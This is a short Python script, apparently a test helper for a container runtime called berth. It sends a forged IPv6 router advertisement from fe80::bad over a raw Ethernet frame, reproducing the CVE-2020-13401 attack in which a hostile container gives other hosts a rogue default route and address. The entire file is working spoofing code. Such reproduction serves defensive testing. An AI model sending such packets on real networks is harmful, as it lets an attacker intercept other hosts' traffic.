#!/usr/bin/env python3
"""send-ra.py IFNAME [PREFIX]: send one IPv6 router advertisement out of
IFNAME as a hostile container would (CVE-2020-13401): from fe80::bad to
ff02::1, router lifetime 1800 s, with PREFIX (default 2001:db8:bad::)/64
marked on-link and autonomous, so that a host that accepts it gains a
default route via fe80::bad and a SLAAC address. Written as a raw
Ethernet frame (AF_PACKET): it needs CAP_NET_RAW only, not IPv6 on
IFNAME, which berth turns off in containers of IPv4-only networks."""
import socket
import struct
import sys

SRC = socket.inet_pton(socket.AF_INET6, "fe80::bad")
DST = socket.inet_pton(socket.AF_INET6, "ff02::1")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def router_advertisement(prefix):
    # type 134, code 0, checksum, hop limit 64, flags 0, lifetime 1800 s,
    # reachable 0, retransmit 0
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    # prefix information: type 3, length 4 (32 bytes), /64, L and A flags,
    # valid 86400 s, preferred 14400 s
    pio = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0)
    pio += socket.inet_pton(socket.AF_INET6, prefix)
    body = ra + pio
    pseudo = SRC + DST + struct.pack("!I3xB", len(body), 58)
    csum = checksum(pseudo + body)
    return body[:2] + struct.pack("!H", csum) + body[4:]


def main():
    ifname = sys.argv[1]
    prefix = sys.argv[2] if len(sys.argv) > 2 else "2001:db8:bad::"
    icmp = router_advertisement(prefix)
    # version 6, payload length, next header ICMPv6, hop limit 255
    ip6 = struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + SRC + DST
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    mac = s.getsockname()[4]
    eth = bytes.fromhex("333300000001") + mac + struct.pack("!H", 0x86DD)
    s.send(eth + ip6 + icmp)


if __name__ == "__main__":
    main()
